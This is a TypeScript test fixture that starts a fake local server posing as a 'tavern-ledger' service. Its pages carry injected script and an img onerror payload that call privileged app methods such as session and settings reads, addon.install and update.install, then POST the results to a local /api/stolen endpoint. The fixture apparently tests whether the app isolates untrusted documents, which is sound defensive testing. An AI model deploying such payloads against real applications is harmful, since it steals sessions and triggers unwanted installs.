import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { OWN_VERSION } from '../process/own-version.ts';
import { json } from './scripted-server.ts';

/** Takes what a page can reach and reports it to the server. */
const THEFT = `(async () => {
  const calls = ['session.get', 'settings.get', 'addon.install', 'server.use', 'update.install'];
  const results = await Promise.all(calls.map((name) => globalThis.tavernLedger.call(name, null).catch(String)));
  await fetch('/api/stolen', { method: 'POST', body: JSON.stringify([results, localStorage.length]) });
})()`;
const PAGE = `<!doctype html><title>API</title><script>${THEFT}</script><script src="/api/docs/theft.js"></script>
<img src="/api/docs/missing.png" onerror="fetch('/api/stolen', { method: 'POST' })">`;

/** A server that passes the check for ledgers and whose documents attack the app that opens them. */
export interface HostileServer extends AsyncDisposable {
  readonly url: string;
  /** Reports of scripts that ran. */
  readonly stolen: readonly string[];
}

export async function startHostileServer(): Promise<HostileServer> {
  const stolen: string[] = [];
  const server = createServer(async (request, response) => {
    let body = '';
    for await (const chunk of request) body += String(chunk);
    const path = request.url ?? '';
    if (path === '/api/healthz')
      return json(response, 200, { service: 'tavern-ledger', status: 'ok', version: OWN_VERSION });
    if (path === '/api/stolen') {
      stolen.push(body);
      return json(response, 200, {});
    }
    const isScript = path.endsWith('.js');
    if (!isScript && path !== '/api/docs' && !path.startsWith('/downloads/')) return json(response, 404, {});
    return response
      .writeHead(200, {
        'content-type': isScript ? 'text/javascript' : 'text/html',
        'content-security-policy': "default-src * 'unsafe-inline'",
      })
      .end(isScript ? THEFT : PAGE);
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    stolen,
    async [Symbol.asyncDispose]() {
      server.closeAllConnections();
      server.close();
      await once(server, 'close');
    },
  };
}
